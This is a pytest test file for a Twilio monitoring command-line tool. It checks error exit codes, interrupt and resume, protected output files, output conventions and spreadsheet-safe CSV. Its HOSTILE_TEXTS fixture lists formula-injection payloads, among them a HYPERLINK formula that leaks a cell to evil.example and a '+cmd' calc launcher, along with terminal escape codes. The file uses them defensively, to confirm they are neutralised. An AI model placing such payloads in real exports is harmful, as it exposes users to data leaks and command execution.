"""The CLI's contract with people and scripts: text printed literally, one-line errors with
documented exit codes, protected output files, spreadsheet-safe CSV, and common conventions
(``list``, ``-o``, ``--properties``, ``--limit``, ``--quiet``, profiles, base URLs from the
environment, ``--debug`` anywhere)."""

from __future__ import annotations

import csv
import fcntl
import json
import os
import shlex
import signal
import socket
import subprocess
import sys
from pathlib import Path

import pyarrow.csv as pa_csv
import pytest
from click.testing import CliRunner, Result

from twilio_monitor_async.cli import (
    EXIT_AUTH,
    EXIT_CHECKPOINT,
    EXIT_FILE,
    EXIT_INTERRUPTED,
    EXIT_NETWORK,
    EXIT_STATUS,
    EXIT_USAGE,
    main,
)
from twilio_monitor_async.testing import FakeTwilio, FaultPlan

from .cli_support import base_url_args, connection_env, create_alarm_args, fake_in_thread, invoke

HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "first line\rsecond line",
    "one\ntwo",
    "crlf\r\nhere",
    'a "quoted", comma',
    "[/bold] [link=http://evil.example]x[/link] :smile:",
    "\x1b[31mred\x1b[0m \x07bell \u202eevil",
]


@pytest.fixture(scope="module")
def fake() -> FakeTwilio:  # type: ignore[misc]
    with fake_in_thread(alerts=300, events=60, notifications=30) as server:
        for index, text in enumerate(HOSTILE_TEXTS):
            server.state.add_alert(
                alert_text=text,
                log_level="error",
                error_code="11200",
                date_generated=f"2026-11-21T00:00:{index:02d}Z",
            )
        yield server


def hostile_sids(fake: FakeTwilio) -> list[str]:
    return [r["sid"] for r in fake.state.collections["alerts"] if r["alert_text"] in HOSTILE_TEXTS]


def lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip()]


def one_error_line(result: Result) -> str:
    """The failure's one line (retries before it are ``warning:`` lines)."""
    *before, line = lines(result.stderr)
    assert line.startswith("error: "), result.stderr
    assert all(other.startswith("warning: retrying") for other in before), result.stderr
    assert "Traceback" not in result.output
    return line


# -- 1. text is text ------------------------------------------------------------------------------
def test_server_text_is_printed_literally_with_control_characters_visible(
    fake: FakeTwilio,
) -> None:
    table = invoke(
        fake, "list", "alerts", "-o", "table", "--properties", "sid,alert_text", "--no-limit"
    )
    assert table.exit_code == 0, table.output
    out = table.stdout
    assert "[/bold] [link=http://evil.example]x[/link] :smile:" in out  # not markup, no emoji
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b[31mred\\x1b[0m \\x07bell \\u202eevil" in out
    text = invoke(fake, "tail", "alerts", "--since", "2026-11-21T00:00:00Z", "--max-polls", "1")
    assert "\x1b" not in text.stdout and "\\x1b[31mred" in text.stdout


def test_markup_in_user_and_server_text_never_crashes(fake: FakeTwilio) -> None:
    bad_date = invoke(fake, "export", "alerts", "--start", "[/bold]")
    assert bad_date.exit_code == EXIT_USAGE
    assert "'[/bold]'" in one_error_line(bad_date)
    page = fake.state.status_page
    incident = page.open_incident(
        "SMS delays [/] (carrier) [link=http://x]", components=["Outbound SMS"], impact="major"
    )
    try:
        shown = invoke(fake, "status", "--fail-on", "minor")
        assert shown.exit_code == EXIT_STATUS, shown.output
        assert "SMS delays [/] (carrier) [link=http://x]" in shown.stdout
    finally:
        page.resolve_incident(incident["id"])
    wrong = invoke(fake, "list", "alerts", env={"TWILIO_AUTH_TOKEN": "wrong-token"})
    assert wrong.exit_code == EXIT_AUTH
    assert "[https://www.twilio.com/docs/errors/20003]" in one_error_line(wrong)


# -- 2. one-line errors, exit codes, --debug anywhere, Ctrl-C, broken pipe -----------------------
def test_failures_are_one_line_with_documented_codes(fake: FakeTwilio, tmp_path: Path) -> None:
    usage = CliRunner().invoke(main, ["export", "alerts", "--format", "xml"])
    assert usage.exit_code == EXIT_USAGE
    assert "--help" in one_error_line(usage)
    before = fake.stats.requests
    missing = invoke(fake, "export", "alerts", "--out", str(tmp_path / "nodir" / "a.jsonl"))
    assert missing.exit_code == EXIT_FILE
    assert "does not exist" in one_error_line(missing)
    assert fake.stats.requests == before  # the folder is checked before any request
    demo = CliRunner().invoke(main, ["demo", "--out", str(tmp_path / "nodir" / "a.jsonl")])
    assert demo.exit_code == EXIT_FILE and "does not exist" in one_error_line(demo)
    closed = CliRunner().invoke(
        main, ["list", "alerts", "--base-url", "http://127.0.0.1:9"], env=connection_env(fake)
    )
    assert closed.exit_code == EXIT_NETWORK
    one_error_line(closed)
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        taken = CliRunner().invoke(main, ["fake-server", "--port", str(port), "--no-live"])
    assert taken.exit_code == EXIT_NETWORK
    assert "already in use" in one_error_line(taken)


@pytest.mark.parametrize("where", ["before", "after"])
def test_debug_before_or_after_the_subcommand(fake: FakeTwilio, where: str) -> None:
    args = ["list", "alerts", "--limit", "1"]
    args = ["--debug", *args] if where == "before" else [*args, "--debug"]
    result = invoke(fake, *args, env={"TWILIO_AUTH_TOKEN": "wrong-token"})
    assert result.exit_code == EXIT_AUTH
    assert "Traceback" in result.stderr and "AuthenticationError" in result.stderr
    assert "wrong-token" not in result.output
    assert result.stderr.rstrip().splitlines()[-1].startswith("error: HTTP 401")


def test_damaged_checkpoints_are_refused_with_their_own_code(
    fake: FakeTwilio, tmp_path: Path
) -> None:
    bad = tmp_path / "tail.json"
    bad.write_text('{"high_water": "yesterday", "seen": {')
    tail = invoke(fake, "tail", "alerts", "--checkpoint", str(bad), "--max-polls", "1")
    assert tail.exit_code == EXIT_CHECKPOINT
    assert "damaged" in one_error_line(tail)
    out = tmp_path / "alerts.jsonl"
    out.write_bytes(b'{"sid":"NO1"}\n')
    checkpoint = tmp_path / "alerts.jsonl.checkpoint"
    for damage in (b"{not json", b'{"query": {}}', b"[]"):
        checkpoint.write_bytes(damage)
        resumed = invoke(fake, "export", "alerts", "--out", str(out), "--resume")
        assert resumed.exit_code == EXIT_CHECKPOINT, resumed.output
        assert "damaged" in one_error_line(resumed)
    query = {"resource": "alerts", "filters": {}, "details": False}
    checkpoint.write_bytes(
        json.dumps(
            {
                "query": query,
                "format": "jsonl",
                "data_bytes": 10_000,
                "records": 5,
                "shard": 0,
                "page_url": None,
                "done": False,
            }
        ).encode()
    )
    padded = invoke(fake, "export", "alerts", "--out", str(out), "--resume")
    assert padded.exit_code == EXIT_CHECKPOINT
    assert "10,000 bytes" in one_error_line(padded)
    assert out.read_bytes() == b'{"sid":"NO1"}\n'  # never padded with NULs


def _cli(*args: str) -> list[str]:
    return [sys.executable, "-m", "twilio_monitor_async.cli", *args]


def test_ctrl_c_exits_130_with_the_exact_resume_command(tmp_path: Path) -> None:
    with fake_in_thread(alerts=3000, faults=FaultPlan(latency=0.02)) as fake:
        out = tmp_path / "alerts.jsonl"
        env = {**os.environ, **connection_env(fake)}
        command = _cli("export", "alerts", "--page-size", "50", "--out", str(out))
        command += base_url_args(fake)
        process = subprocess.Popen(
            command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True
        )
        checkpoint = Path(str(out) + ".checkpoint")
        # Wait until the first page is on disk (the checkpoint moved past the header).
        while process.poll() is None and not (
            checkpoint.exists() and b'"records":0' not in checkpoint.read_bytes()
        ):
            os.sched_yield()
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=60)
        assert process.returncode == EXIT_INTERRUPTED, err
        (line,) = lines(err)
        hint = line.split("continue with: ", 1)[1]
        resume_args = shlex.split(hint)
        assert resume_args[0] == "twilio-monitor" and resume_args[-1] == "--resume"
        resumed = subprocess.run(
            _cli(*resume_args[1:]), env=env, capture_output=True, text=True, timeout=120
        )
        assert resumed.returncode == 0, resumed.stderr
        assert "resumed after" in resumed.stderr
    sids = [json.loads(row)["sid"] for row in out.read_text().splitlines()]
    assert sids == [r["sid"] for r in fake.state.collections["alerts"]]
    assert not checkpoint.exists()  # a finished export removes its checkpoint


def test_a_reader_that_stops_early_ends_the_command_quietly(fake: FakeTwilio) -> None:
    env = {**os.environ, **connection_env(fake)}
    process = subprocess.Popen(
        _cli("list", "alerts", "--no-limit", "-o", "jsonl", *base_url_args(fake)),
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert process.stdout is not None and process.stderr is not None
    assert json.loads(process.stdout.readline())["sid"].startswith("NO")
    process.stdout.close()  # like `| head -1`
    err = process.stderr.read()
    process.stderr.close()
    assert process.wait(timeout=60) == 0
    assert err == b""


# -- 3. protected output files ---------------------------------------------------------------------
def test_existing_output_is_refused_unless_force_or_resume(
    fake: FakeTwilio, tmp_path: Path
) -> None:
    out = tmp_path / "alerts.jsonl"
    out.write_text("precious\n")
    refused = invoke(fake, "export", "alerts", "--out", str(out))
    assert refused.exit_code == EXIT_FILE
    assert "already exists" in one_error_line(refused)
    assert out.read_text() == "precious\n"
    forced = invoke(fake, "export", "alerts", "--out", str(out), "--force", "-q")
    assert forced.exit_code == 0, forced.output
    assert forced.stderr == ""  # --quiet
    assert len(out.read_text().splitlines()) == len(fake.state.collections["alerts"])
    assert not Path(str(out) + ".checkpoint").exists()


def test_symlinks_are_never_followed(fake: FakeTwilio, tmp_path: Path) -> None:
    target = tmp_path / "target.txt"
    target.write_text("do not touch\n")
    link = tmp_path / "alerts.jsonl"
    link.symlink_to(target)
    for extra in ((), ("--force",)):
        result = invoke(fake, "export", "alerts", "--out", str(link), *extra)
        assert result.exit_code == EXIT_FILE
        one_error_line(result)
    assert target.read_text() == "do not touch\n"


def test_a_second_writer_is_locked_out(fake: FakeTwilio, tmp_path: Path) -> None:
    out = tmp_path / "alerts.jsonl"
    with out.open("wb") as held:
        fcntl.flock(held.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)  # the first export's lock
        second = invoke(fake, "export", "alerts", "--out", str(out), "--force")
    assert second.exit_code == EXIT_FILE
    assert "another export is writing it" in one_error_line(second)


def test_a_failed_export_leaves_nothing_and_details_are_private(
    fake: FakeTwilio, tmp_path: Path
) -> None:
    out = tmp_path / "alerts.jsonl"
    wrong = invoke(
        fake, "export", "alerts", "--out", str(out), env={"TWILIO_AUTH_TOKEN": "wrong-token"}
    )
    assert wrong.exit_code == EXIT_AUTH
    assert sorted(tmp_path.iterdir()) == []
    alerts = invoke(fake, "export", "alerts", "--with-details", "--out", str(out))
    assert alerts.exit_code == 0, alerts.output
    assert out.stat().st_mode & 0o777 == 0o600


# -- 4. CSV that spreadsheets and parsers read safely ---------------------------------------------
@pytest.mark.parametrize("where", ["export", "list"])
def test_hostile_csv_reads_back_one_row_per_record_with_no_live_formula(
    fake: FakeTwilio, tmp_path: Path, where: str
) -> None:
    out = tmp_path / "alerts.csv"
    filters = ("--start-date", "2026-11-21T00:00:00Z", "--end-date", "2026-11-21T00:01:00Z")
    if where == "export":
        result = invoke(fake, "export", "alerts", *filters, "-o", "csv", "--out", str(out))
    else:
        result = invoke(fake, "list", "alerts", *filters, "-o", "csv", "--no-limit")
        out.write_bytes(result.stdout_bytes)  # .stdout folds CRLF
    assert result.exit_code == 0, result.output
    expected = sorted(hostile_sids(fake))
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["sid"] for r in rows) == expected
    texts = {r["alert_text"] for r in rows}
    for text in HOSTILE_TEXTS:
        formula = text.startswith(("=", "+", "-", "@")) and text != "-2+3"
        assert ("'" + text if formula or text == "-2+3" else text) in texts
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    table = pa_csv.read_csv(out, parse_options=pa_csv.ParseOptions(newlines_in_values=True))
    assert table.num_rows == len(expected)
    assert sorted(table.column("sid").to_pylist()) == expected


def test_raw_csv_and_tsv(fake: FakeTwilio) -> None:
    filters = ("--start-date", "2026-11-21T00:00:00Z", "--end-date", "2026-11-21T00:01:00Z")
    raw = invoke(fake, "list", "alerts", *filters, "-o", "csv", "--raw-csv", "--no-limit")
    assert '"=HYPERLINK(""http://evil.example' in raw.stdout
    tsv = invoke(fake, "list", "alerts", *filters, "-o", "tsv", "--properties", "sid,alert_text")
    rows = tsv.stdout.split("\n")[1:-1]
    assert len(rows) == len(HOSTILE_TEXTS)
    assert all(len(row.split("\t")) == 2 for row in rows)
    assert "first line\\rsecond line" in tsv.stdout and "'=HYPERLINK" in tsv.stdout


# -- 5. conventions -------------------------------------------------------------------------------
def test_list_outputs_properties_and_limits(fake: FakeTwilio) -> None:
    piped = invoke(fake, "list", "alerts", "--log-level", "error", "--limit", "20")
    rows = [json.loads(line) for line in piped.stdout.splitlines()]  # JSON lines when piped
    assert len(rows) == 20 and {r["log_level"] for r in rows} == {"error"}
    array = json.loads(invoke(fake, "list", "alerts", "--limit", "3", "-o", "json").stdout)
    assert isinstance(array, list) and len(array) == 3
    picked = invoke(fake, "list", "alerts", "--limit", "2", "--properties", "sid,error_code")
    assert [list(json.loads(line)) for line in picked.stdout.splitlines()] == [
        ["sid", "error_code"]
    ] * 2
    table = invoke(fake, "list", "alerts", "--limit", "5", "-o", "table")
    assert "date_generated" in table.stdout and "5 alerts (the first 5" in table.stderr
    bad = invoke(fake, "list", "alerts", "--properties", "sid,colour")
    assert bad.exit_code == EXIT_USAGE and "--properties" in one_error_line(bad)
    for name in ("events", "notifications", "alarms", "sinks", "subscriptions", "event-types"):
        each = invoke(fake, "list", name, "--limit", "2", "-o", "jsonl")
        assert each.exit_code == 0, (name, each.output)


def test_dates_aliases_and_start_after_end(fake: FakeTwilio) -> None:
    long = invoke(fake, "list", "alerts", "--start-date", "2026-11-19", "--end-date", "2026-11-19")
    short = invoke(fake, "list", "alerts", "--start", "2026-11-19", "--end", "2026-11-19")
    assert long.stdout == short.stdout and long.stdout
    for command in (("list", "alerts"), ("export", "alerts")):
        backwards = invoke(fake, *command, "--start", "2026-11-20", "--end", "2026-11-01")
        assert backwards.exit_code == EXIT_USAGE
        assert "--start-date (2026-11-20) is after --end-date" in one_error_line(backwards)


def test_base_urls_from_the_environment_and_profiles(fake: FakeTwilio, tmp_path: Path) -> None:
    runner = CliRunner()
    env = {**connection_env(fake), "TWILIO_MONITOR_BASE_URL": fake.url}
    one_url = runner.invoke(main, ["list", "alerts", "--limit", "2"], env=env)
    assert one_url.exit_code == 0, one_url.output
    pairs = f"monitor={fake.url},status={fake.url}"
    by_domain = runner.invoke(
        main, ["list", "alerts", "--limit", "2"], env={**env, "TWILIO_MONITOR_BASE_URL": pairs}
    )
    assert by_domain.stdout == one_url.stdout
    bad = runner.invoke(main, ["list", "alerts"], env={**env, "TWILIO_MONITOR_BASE_URL": "x=y"})
    assert bad.exit_code == EXIT_USAGE and "TWILIO_MONITOR_BASE_URL" in one_error_line(bad)
    config = tmp_path / "config.ini"
    config.write_text(
        f"[fake]\naccount_sid = {fake.account_sid}\nauth_token = {fake.auth_token}\n"
        f"base_url = {fake.url}\n"
    )
    no_credentials = {
        "TWILIO_MONITOR_CONFIG": str(config),
        "TWILIO_ACCOUNT_SID": "",
        "TWILIO_AUTH_TOKEN": "wrong",
        "TWILIO_MONITOR_BASE_URL": "",
    }
    for args in (
        ["-p", "fake", "list", "alerts", "--limit", "2"],
        ["list", "alerts", "--limit", "2", "--profile", "fake"],
    ):
        profiled = runner.invoke(main, args, env=no_credentials)
        assert profiled.exit_code == 0, profiled.output
        assert profiled.stdout == one_url.stdout
    unknown = runner.invoke(main, ["-p", "nope", "list", "alerts"], env=no_credentials)
    assert unknown.exit_code == EXIT_USAGE and "profiles: fake" in one_error_line(unknown)


def test_alarms_update_changes_only_the_given_fields(fake: FakeTwilio) -> None:
    created = invoke(
        fake,
        *create_alarm_args("Webhook failures"),
    )
    sid = created.stdout.strip()
    updated = invoke(fake, "alarms", "update", sid, "--trigger-value", "7")
    assert updated.exit_code == 0, updated.output
    alarm = json.loads(invoke(fake, "alarms", "get", sid, "-o", "json").stdout)
    assert alarm["trigger_value"] == 7
    assert alarm["friendly_name"] == "Webhook failures" and alarm["email"] == ["oncall@example.com"]
    replaced = invoke(fake, "alarms", "update", sid, "--trigger-value", "8", "--replace")
    assert replaced.exit_code == EXIT_USAGE
    assert "--friendly-name" in one_error_line(replaced)
    listed = invoke(fake, "alarms", "list", "-o", "jsonl", "--no-limit")
    assert sid in {json.loads(line)["sid"] for line in listed.stdout.splitlines()}
    assert invoke(fake, "alarms", "delete", sid).exit_code == 0
